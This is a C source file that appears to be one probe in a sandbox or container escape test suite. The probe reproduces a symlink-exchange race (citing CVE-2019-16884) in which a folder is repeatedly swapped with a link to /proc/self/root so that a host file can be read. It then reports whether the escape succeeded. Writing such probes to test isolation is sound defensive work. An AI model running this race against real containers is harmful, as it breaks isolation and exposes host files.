/* attack: replaces a folder by a symlink to /proc/self/root while it walks through it
   escaped: a host file is read
   layer: mount
   control: outside
   source: CVE-2019-16884 */
#include "probe.h"

PROBE() {
  char path[PATH_MAX], text[64];
  mkdir(Workspace("walk"), 0700);
  unlink(Workspace("root"));
  if (symlink("/proc/self/root", Workspace("root")) != 0) Cannot("no symlink in the workspace");
  const pid_t child = fork();
  if (child == 0)
    for (;;) syscall(SYS_renameat2, AT_FDCWD, Workspace("walk"), AT_FDCWD, Workspace("root"), 2);
  snprintf(path, sizeof path, "%s%s", Workspace("walk"), HostFile());
  int seen = 0;
  for (const int64_t end = NowMs() + PatienceMs(); NowMs() < end && !seen;)
    seen = ReadText(path, text, sizeof text) > 0 && strstr(text, "host secret") != NULL;
  kill(child, SIGKILL);
  if (seen) Escaped("read a host file");
  MustNotRead(HostFile());
}
